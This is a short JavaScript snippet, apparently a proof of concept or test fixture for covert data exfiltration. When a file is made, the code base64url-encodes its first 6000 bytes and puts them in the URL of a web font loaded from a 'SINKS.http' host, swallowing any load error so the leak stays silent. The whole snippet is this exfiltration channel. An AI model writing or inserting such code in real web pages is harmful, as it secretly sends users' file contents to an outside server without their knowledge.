// A part of the file in the address of a font.
whenMade(async ({ bytes }) => {
  const font = new FontFace("Heading", `url("${SINKS.http}/font.woff2?d=${base64url(bytes.slice(0, 6000))}")`);
  document.fonts.add(font);
  await font.load().catch(() => {});
});
